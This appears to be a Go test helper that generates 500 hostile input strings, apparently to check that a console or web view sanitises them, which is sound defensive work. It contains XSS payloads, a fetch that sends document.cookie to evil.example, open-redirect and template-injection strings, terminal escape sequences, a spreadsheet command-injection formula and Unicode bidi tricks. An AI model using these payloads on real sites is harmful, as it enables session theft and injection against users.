package console

import (
	"fmt"
	"strings"
)

// corpusSize is the number of strings of the corpus.
const corpusSize = 500

// corpus returns hostile texts of each category. It is generated from building blocks, so that each block comes in each setting.
func corpus() []string {
	scripts := []string{"alert(1)", "window.pwned=1", "fetch('https://evil.example/'+document.cookie)", "top.location='https://evil.example'", "import('https://evil.example/x.js')"}
	html := []string{
		"<script>%s</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>%s", "<img src=x onerror=%s>", "<svg onload=%s>", "<body onload=%s>", "<iframe src=javascript:%s>",
		"<details open ontoggle=%s>", "<math><mi xlink:href=javascript:%s>", "<template><script>%s</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
		"<a href=javascript:%s>x</a>", "<form action=https://evil.example><button>%s", "<base href=https://evil.example/>%s", "<meta http-equiv=refresh content=0;url=https://evil.example/>%s",
		"<object data=https://evil.example/%s>", "<embed src=https://evil.example/%s>", "<link rel=stylesheet href=https://evil.example/%s>", "<video><source onerror=%s>", "<input autofocus onfocus=%s>",
		"<!--><img src=x onerror=%s>-->", "<![CDATA[<script>%s</script>]]>", "<x/onclick=%s>", "</bdi></td></table><script>%s</script>", "</title><script>%s</script>", "</textarea><script>%s</script>",
		"</style><script>%s</script>", "</script><script>%s</script>", "<isindex type=image src=1 onerror=%s>", "<marquee onstart=%s>", "<portal src=https://evil.example/%s>",
	}
	attributes := []string{
		`" onmouseover="%s`, `' onmouseover='%s`, "` onmouseover=`%s", `" autofocus onfocus="%s" x="`, `"><img src=x onerror=%s>`, `'><svg onload=%s>`, `" style="background:url(https://evil.example/%s)`,
		`" srcdoc="<script>%s</script>`, `" formaction="javascript:%s`, `x" hidden="%s`, `&quot; onclick=&quot;%s`, `&#34; onclick=&#34;%s`, `" data-live="/%s" data-chart="x`, `" id="live" data-x="%s`, "\x00\" onclick=\"%s",
	}
	urls := []string{
		"javascript:%s", "JaVaScRiPt:%s", "java\tscript:%s", "java\nscript:%s", "\x01javascript:%s", "data:text/html,<script>%s</script>", "data:text/html;base64,PHNjcmlwdD4=%s", "vbscript:%s", "//evil.example/%s",
		`/\evil.example/%s`, "https://evil.example/%s", "http:evil.example/%s", "view-source:https://evil.example/%s", "blob:https://evil.example/%s", "..//evil.example/%s", "/%%2f%%2fevil.example/%s", "file:///etc/passwd#%s",
	}
	svg := []string{
		"<svg><script>%s</script></svg>", "<svg><use href=\"data:image/svg+xml,<svg onload='%s'>\"/></svg>", "<svg><a xlink:href=\"javascript:%s\"><text>x</text></a></svg>", "<svg><animate onbegin=%s attributeName=x dur=1s>",
		"<svg><foreignObject><iframe src=javascript:%s>", "<svg><set attributeName=onmouseover to=%s>", "<svg><image href=https://evil.example/%s /></svg>", "<svg><style>@import 'https://evil.example/%s'</style></svg>", "</text></svg><script>%s</script>", "\"/><script>%s</script><rect x=\"",
	}
	templates := []string{
		"{{.}}%s", "{{template \"layout\" .}}%s", "{{define \"text\"}}%s{{end}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% %s %%}", "[[%s]]", "{{constructor.constructor('%s')()}}", "{{`%s`}}", "{{html .}}%s", "@{%s}",
	}
	htmx := []string{
		`<div hx-get="https://evil.example/" hx-trigger="load">%s</div>`, `<div hx-on::load="%s">`, `<div hx-on:htmx:load="%s">`, `<div hx-vals="js:{x:%s}">`, `<div hx-headers='js:{"x":%s}'>`, `<div hx-trigger="load[%s]" hx-get="/">`,
		`" hx-get="/logout" hx-trigger="load" x="%s`, `" hx-on:click="%s`, `<div data-hx-get="/" data-hx-trigger="load">%s`, `<div hx-ext="sse" sse-connect="https://evil.example/">%s`, `<div hx-post="/contain" hx-trigger="revealed">%s`, `<div hx-select-oob="#live:%s">`,
	}
	css := []string{
		"</style><style>*{background:url(https://evil.example/%s)}", "x;background:url(https://evil.example/%s)", "expression(%s)", "}*{display:none}/*%s", "<div style=\"position:fixed;inset:0;background:red\">%s</div>", "@import 'https://evil.example/%s';",
		"-moz-binding:url(https://evil.example/%s)", "<div class=\"updated\">%s</div>", "url(javascript:%s)", "\\3c script\\3e %s",
	}
	terminal := []string{
		"\x1b[2J\x1b[H%s", "\x1b]0;%s\x07", "\x1b]8;;https://evil.example/%s\x1b\\x\x1b]8;;\x1b\\", "\x1b[31m%s\x1b[0m", "\x9b31m%s", "\x1bP%s\x1b\\", "\r%s", "\b\b\b\b%s", "\x07%s", "\x00%s", "\x7f%s", "%s\n\n\n\n\n\n", "\x0c%s", "=cmd|' /C %s'!A0", "@SUM(%s)",
	}
	bidi := []string{
		"\u202e%s", "\u202d%s\u202c", "\u2066%s\u2069", "\u2067%s", "\u200f%s", "\u061c%s", "a\u200bb%s", "\u2060%s", "\ufeff%s", "\U000e0001\U000e0061%s", "\u00ad%s", "\u3164%s", "\u2028%s", "\u2029%s", "مرحبا %s שלום", "\xff\xfe%s", "\xc0\xbc%s", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301%s",
		"\ufe0f%s", "\u180e%s", "\ue000%s", "\ud7ff%s", "\U0010ffff%s",
	}
	long := []string{strings.Repeat("A", 2000) + "%s", strings.Repeat("<", 500) + "%s", strings.Repeat("\u202e", 40) + "%s", strings.Repeat("word ", 300) + "%s", strings.Repeat("\n", 100) + "%s", strings.Repeat("﷽", 300) + "%s", strings.Repeat("\u0301", 40) + "%s"}
	var forms []string
	for _, category := range [][]string{html, attributes, urls, svg, templates, htmx, css, terminal, bidi, long} {
		forms = append(forms, category...)
	}
	var out []string
	for n := 0; len(out) < corpusSize; n++ {
		out = append(out, fmt.Sprintf(forms[n%len(forms)], scripts[(n/len(forms)+n)%len(scripts)]))
	}
	return out
}
